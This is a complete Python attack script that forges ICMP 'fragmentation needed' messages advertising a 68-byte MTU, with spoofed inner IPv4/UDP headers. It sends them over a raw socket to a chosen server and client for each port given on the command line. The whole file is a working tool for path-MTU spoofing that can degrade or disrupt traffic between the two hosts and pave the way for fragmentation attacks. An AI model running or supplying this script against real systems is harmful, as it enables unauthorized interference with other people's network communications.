"""Sends forged "fragmentation needed" messages to a server and a client, about their datagrams:
forge.py SERVER:PORT CLIENT PORT..."""
import socket
import struct
import sys

MTU = 68  # the smallest of IPv4


def checksum(data):
    total = sum(struct.unpack(">%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def needed(source, source_port, to, to_port):
    """The ICMP message of a router that cannot forward a datagram of `source`."""
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 1228, 1, 0x4000, 64, 17, 0, socket.inet_aton(source),
                     socket.inet_aton(to))
    ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
    inner = ip + struct.pack(">HHHH", source_port, to_port, 1208, 0)
    head = struct.pack(">BBHHH", 3, 4, 0, 0, MTU)
    return struct.pack(">BBHHH", 3, 4, checksum(head + inner), 0, MTU) + inner


server, server_port = sys.argv[1].split(":")
client = sys.argv[2]
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
for port in map(int, sys.argv[3:]):
    raw.sendto(needed(server, int(server_port), client, port), (server, 0))
    raw.sendto(needed(client, port, server, int(server_port)), (client, 0))
